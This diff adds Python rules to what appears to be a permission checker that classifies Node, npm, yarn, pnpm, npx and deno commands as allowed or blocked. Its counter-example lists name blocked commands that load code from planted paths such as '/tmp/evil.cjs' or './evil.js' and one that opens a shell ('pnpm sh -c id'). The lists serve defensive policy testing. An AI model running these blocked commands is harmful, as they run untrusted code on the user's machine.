+    "-s",
+    "--quiet",
+    "-q",
+    "--",
+    "-y",
+    "--yes",
+    "--bun",
+    "--prefer-offline",
+)
+
+# -- node and deno ----------------------------------------------------------------------------------------------------------------------
+
+_NODE = Tool(
+    "node",
+    Kind.CODE,
+    "the Node interpreter",
+    flags="--no-warnings --trace-warnings --trace-deprecation --no-deprecation "
+    "--enable-source-maps --harmony --expose-gc --throw-deprecation --experimental-strip-types "
+    "--experimental-vm-modules --abort-on-uncaught-exception --experimental-json-modules --experimental-test-coverage "
+    "--no-experimental-strip-types",
+    values="--max-old-space-size --stack-size --test-name-pattern --test-reporter --test-concurrency --test-timeout --unhandled-rejections",
+    interspersed=False,
+    operands=INERT,
+)
+
+
+def node(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
+    words = call.words
+    if len(words) == 2 and words[1].value in ("--version", "-v", "--help", "-h", "--v8-options", "--completion-bash"):
+        return Outcome(
+            Action(("node", "--version"), Kind.READ, rule="node", allowed=True, description="shows the version")
+        )
+    if len(words) == 3 and words[1].value in ("--check", "-c") and words[2].value is not None:
+        return Outcome(
+            Action(("node", "--check"), Kind.READ, rule="node --check", allowed=True, description="checks the syntax"),
+            tuple(place_facts(tool, call, analyst)),
+        )
+    testing = any(w.value == "--test" for w in words[1:])
+    given = call.replace(
+        words=tuple(w for w in words if w.value != "--test" and not (testing and w.value == "--watch"))
+    )
+    parsed = parse(_NODE, given.words[1:])
+    facts = facts_of(_NODE, given, parsed, analyst)
+    facts += tuple(
+        unknown("option", f"the reporter `{w.text}` is code", call, w.text)
+        for w in parsed.values("--test-reporter")
+        if w.value not in ("spec", "tap", "dot", "junit", "lcov")
+    )
+    if testing:
+        action = Action(
+            ("node", "--test"),
+            Kind.BUILD,
+            rule="node --test",
+            allowed=True,
+            profile="node-dev",
+            description="runs the project's tests",
+        )
+        return Outcome(action, (*facts, *place_facts(tool, call, analyst)))
+    if (
+        parsed.operands
+        and not (parsed.operands[0].value or "").startswith(("/dev/", "/proc/"))
+        and parsed.operands[0].value != "-"
+    ):
+        return project_file(_NODE, call, analyst, parsed.operands[0], facts)
+    return Outcome(
+        Action(("node", "-"), Kind.INLINE, rule="node", description="runs JavaScript"),
+        (*facts, unknown("inline code", "JavaScript in the command or from its input", call)),
+    )
+
+
+_DENO_ASKS = {
+    "-c --config": "uses other settings",
+    "-A --allow-all --allow-run --allow-ffi --allow-env --allow-net --allow-read --allow-write --allow-sys": "gives rights to the code",
+    "--import-map": "loads other code",
+    "--preload --cert --location --lock --reload -r": "loads other code",
+    "--inspect --inspect-brk --inspect-wait": "starts a debugger",
+}
+
+
+def _deno(name: str, description: str, *, kind: Kind = Kind.BUILD, **more: Any) -> Tool:
+    more.setdefault("operands", INERT)
+    return Tool(
+        f"deno {name}",
+        kind,
+        description,
+        key_words=2,
+        special=more.pop("special", runner),
+        flags=f"-q --quiet --no-config --no-lock --watch --json {more.pop('flags', '')}",
+        asks=_DENO_ASKS,
+        **more,
+    )
+
+
+def _deno_task(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
+    outcome = runner(tool, call, analyst)
+    if any(is_risky_script(w.value or "deploy") for w in call.words[1:]):
+        return outcome.replace(action=outcome.action.replace(allowed=False, profile=""))
+    return outcome.replace(facts=(*outcome.facts, *script_arguments(call.words[2:], call, "deno task")))
+
+
+TOOLS: dict[str, Tool] = {
+    "npm": _NPM,
+    "yarn": Tool(
+        "yarn",
+        Kind.BUILD,
+        "packages and scripts of Node",
+        special=yarn,
+        key_words=3,
+        flags="-v --version -h --help -s --silent --verbose --offline --json",
+        asks={"--cwd": "works on another package", "--use-yarnrc": "uses other settings"},
+        examples=(
+            "yarn test",
+            "yarn build",
+            "yarn workspace web build",
+            "yarn why lodash",
+            "yarn --version",
+            "yarn tsc --noEmit",
+            "yarn install --immutable",
+            "yarn workspaces foreach -A run build",
+        ),
+        counter_examples=(
+            "yarn dlx evil",
+            "yarn --cwd /tmp/evilpkg test",
+            "yarn add x",
+            "yarn",
+            "yarn run --inspect-brk build",
+            "yarn touch x",
+            "yarn ts-node x.ts",
+            "yarn run env",
+            "yarn install",
+            "yarn eslint -c /tmp/x .",
+            "yarn config set yarnPath /tmp/evil.cjs",
+            "yarn exec touch x",
+            "yarn node -e x",
+            "yarn deploy",
+        ),
+    ),
+    "pnpm": Tool(
+        "pnpm",
+        Kind.BUILD,
+        "packages and scripts of Node",
+        special=pnpm,
+        key_words=3,
+        flags="-v --version -h --help -s --silent -r --recursive -w --workspace-root --parallel --stream --if-present --no-bail --color "
+        "--no-color",
+        values="-F --filter --workspace-concurrency --loglevel --reporter",
+        asks={
+            "-C --dir": "works on another package",
+            "--prefix": "works on another package",
+            "-g --global": "works on the whole machine",
+            "-c --shell-mode": "runs a shell",
+        },
+        examples=(
+            "pnpm test",
+            "pnpm lint",
+            "pnpm --filter @app/web build",
+            "pnpm run typecheck",
+            "pnpm --version",
+            "pnpm why x",
+            "pnpm exec tsc --noEmit",
+            "pnpm install --frozen-lockfile",
+            "pnpm eslint .",
+        ),
+        counter_examples=(
+            "pnpm -C /tmp/evilpkg test",
+            "pnpm dlx cowsay",
+            "pnpm add x",
+            "pnpm sh -c id",
+            "pnpm rm x",
+            "pnpm exec touch x",
+            "pnpm env use --global 20",
+            "pnpm touch x",
+        ),
+    ),
+    "bun": Tool(
+        "bun", Kind.BUILD, "packages, scripts and tests", special=bun, key_words=3, subcommands={"test": _BUN_TEST}
+    ),
+    **{
+        name: Tool(
+            name,
+            Kind.WRAPPER,
+            "runs a program of a package",
+            special=npx,
+            key_words=2,
+            examples=(f"{name} tsc --noEmit", f"{name} eslint .", f"{name} vitest run"),
+            counter_examples=(
+                f"{name} -y some-package",
+                f"{name} cowsay",
+                f"{name} eslint -f ./evil.js .",
+                f"{name} ng deploy",
+                f"{name} -p evil tsc",
+                f"{name} eslint -c /tmp/x .",
+                f"{name} jest --globalSetup /tmp/x",
+            ),
+        )
+        for name in ("npx", "bunx", "pnpx")
+    },
+    "node": Tool(
+        "node",
+        Kind.CODE,
+        "the Node interpreter",
+        special=node,
+        key_words=2,
+        examples=("node --version", "node --check src/x.js", "node --test tests", "node --test --watch"),
+        counter_examples=(
+            "node -e 'x()'",
+            "node -pe x",
+            "node --print x",
+            "node --import /tmp/x.mjs -e 1",
+            "node --test /tmp/evil.js",
+            "node",
+            "node --test --test-reporter=./evil.js",
+            "node --experimental-loader=/tmp/x.mjs x.js",
+            "node --check /etc/x",
+            "node x.js",
+            "node --watch x.js",
+        ),
+    ),
+    "nodejs": Tool("node", Kind.CODE, "the Node interpreter", special=node, key_words=2),
+    "deno": Tool(
+        "deno",
+        Kind.CODE,
+        "the Deno interpreter",
+        key_words=2,
+        flags="-V --version -h --help",
+        subcommands={
+            "fmt": _deno(
+                "fmt",
+                "formats files",
+                kind=Kind.EDIT,
+                flags="--check",
+                values="--ext --ignore --line-width --indent-width",
+                examples=("deno fmt --check",),
+                counter_examples=("deno fmt /tmp/x",),
+            ),
+            "lint": _deno(
+                "lint",
+                "lints files",
+                kind=Kind.BUILD,
+                profile="node-dev",
+                flags="--fix --compact",
+                values="--rules-tags --rules-include --rules-exclude --ignore",
+                examples=("deno lint",),
+            ),
+            "check": _deno("check", "checks types", kind=Kind.BUILD, profile="node-dev", flags="--all --doc"),
+            "test": _deno(
+                "test",
+                "runs the project's tests",
+                profile="node-dev",
+                flags="--no-check --parallel --doc --no-run --coverage",
+                values="--filter --fail-fast",
+                examples=("deno test",),
+                counter_examples=("deno test -A", "deno test --allow-run"),
+            ),
+            "task": _deno(
+                "task",
+                "runs a task of the project",
+                profile="node-dev",
+                special=_deno_task,
+                examples=("deno task build",),
+                counter_examples=("deno task deploy", "deno task --eval 'x'"),
+            ),
+            "info": _deno("info", "shows dependencies", kind=Kind.BUILD, profile="node-dev"),
+            "doc": _deno("doc", "shows documentation", kind=Kind.BUILD, profile="node-dev"),
+            "types": _deno("types", "shows type declarations", kind=Kind.READ, operands=NONE),
+        },
+        counter_examples=("deno eval x", "deno run x.ts", "deno install x"),
+    ),
+}
